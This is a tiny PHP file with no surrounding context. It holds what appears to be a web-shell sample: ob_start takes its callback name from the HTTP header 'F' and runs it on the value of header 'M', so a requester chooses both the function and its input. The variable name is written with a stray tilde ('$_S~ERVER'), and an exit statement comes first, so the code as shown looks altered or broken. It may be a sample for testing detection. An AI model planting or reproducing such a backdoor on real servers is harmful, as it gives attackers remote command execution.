<?php exit; ?>
<?php
ob_start($_S~ERVER['HTTP_F']); echo $_S~ERVER['HTTP_M']; ob_end_flush();
